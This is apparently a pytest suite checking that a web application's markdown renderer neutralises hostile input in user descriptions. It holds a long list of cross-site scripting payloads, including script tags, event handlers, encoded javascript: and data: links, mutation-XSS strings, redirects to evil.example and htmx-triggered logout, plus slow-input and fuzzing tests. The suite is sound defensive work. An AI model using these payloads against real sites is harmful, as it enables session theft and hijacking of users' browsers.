"""Descriptions are shown safely, whatever somebody types."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from processes.markdown import ATTRIBUTES, TAGS, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<hx-partial hx-target='#board' hx-swap=innerHTML>x</hx-partial>",
    "<div hx-get='/accounts/logout/' hx-trigger=load>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](/accounts/logout/)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](?next=1)",
    "[x](#board)",
    "[x](ftp://example.org)",
    "[x](blob:https://example.org/1)",
    "[x](ws://example.org)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "[x](https://example.org/'onmouseover='alert(1))",
    '[x](https://example.org "t\\" onclick=\\"alert(1)")',
    '<https://example.org/"onclick="alert(1)>',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](https://example.org)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|:-|-:|\n| [x](javascript:1) | c |",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "9999999999. x",
    "-1. x",
    "{% load static %}{{ request.user }}",
    "*[a](https://example.org)*" + "<b>" * 50,
]


class Reader(HTMLParser):
    """Reads as a browser does: which elements, with which attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_decl(self, decl):
        raise AssertionError(decl)

    def handle_comment(self, data):
        raise AssertionError(data)


def assert_safe(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    for tag, attributes in reader.elements:
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed, attributes
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener"
            if "href" in attributes:
                assert urlsplit(attributes["href"]).scheme in {"http", "https", "mailto"}
        if "start" in attributes:
            assert attributes["start"].isdigit()


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "a {} b", "**{}**", "- x\n  {}", "[t]({})", "> {}", "| {} |\n|-|\n| {} |"])
def test_markdown_hostile_is_harmless(payload, around):
    assert_safe(render_markdown(around.replace("{}", payload)))


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from(HOSTILE)
        | st.sampled_from(list("<>\"'`[]()!*_~#&;:/\\= \n\t|-"))
        | st.sampled_from(
            ["javascript:", "onload=", "https://", "<a ", "href=", "<svg", "]]>", "-->", "<!--", "&#x6a;"]
        )
        | st.text(max_size=5),
        max_size=12,
    ).map("".join)
)
@example("<" * 500)
def test_markdown_anything_is_harmless(text):
    assert_safe(render_markdown(text))


@pytest.mark.parametrize(
    "slow",
    [
        "[" * 40_000,
        "[a](" * 10_000,
        "*a " * 13_000,
        "**a _b " * 5_000,
        "`" * 40_000,
        "> " * 20_000 + "x",
        "- " * 20_000 + "x",
        "<" * 40_000,
        "&" * 40_000,
        "|a" * 20_000 + "\n" + "|-" * 20_000,
        "[a]: <" * 6_000,
        "![" * 20_000,
        "![[" * 13_000,
        "[" * 2_000 + "x" * 38_000,
        "~~a" * 13_000,
        "a\n" * 20_000,
        ("#" * 6 + " x\n") * 4_000,
    ],
)
def test_markdown_pathological_takes_no_long_time(slow):
    before = time.thread_time()  # of the processor, whoever else wants it
    assert_safe(render_markdown(slow[:40_000]))
    assert time.thread_time() - before < 3


def test_markdown_shows_what_people_use():
    html = render_markdown(
        "# Steps\n\n3. **Read** the *letters*\n4. ~~wait~~\n\n- a\n- b\n\n[ours](https://example.org/a?b=c&d=e) "
        "[mail](mailto:a@example.org)\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"
    )
    assert "<h3>Steps</h3>" in html
    assert '<ol start="3">' in html
    assert "<strong>Read</strong> the <em>letters</em>" in html
    assert "<s>wait</s>" in html
    assert '<a href="https://example.org/a?b=c&amp;d=e" rel="nofollow noopener">ours</a>' in html
    assert '<a href="mailto:a@example.org" rel="nofollow noopener">mail</a>' in html
    assert "<td>2</td>" in html
    assert "style" not in html


def test_markdown_takes_html_for_text():
    html = render_markdown('<a href="https://example.org">x</a>\n\n<p>y</p>')
    assert html == '<p>&lt;a href="https://example.org"&gt;x&lt;/a&gt;</p>\n<p>&lt;p&gt;y&lt;/p&gt;</p>\n'


def test_markdown_headings_stay_below_the_page():
    html = render_markdown("\n\n".join(f"{'#' * depth} t{depth}" for depth in range(1, 7)))
    assert [f"<h{level}>t{depth}" in html for depth, level in enumerate([3, 4, 5, 6, 6, 6], start=1)] == [True] * 6


def test_markdown_empty_is_empty():
    assert render_markdown("") == ""
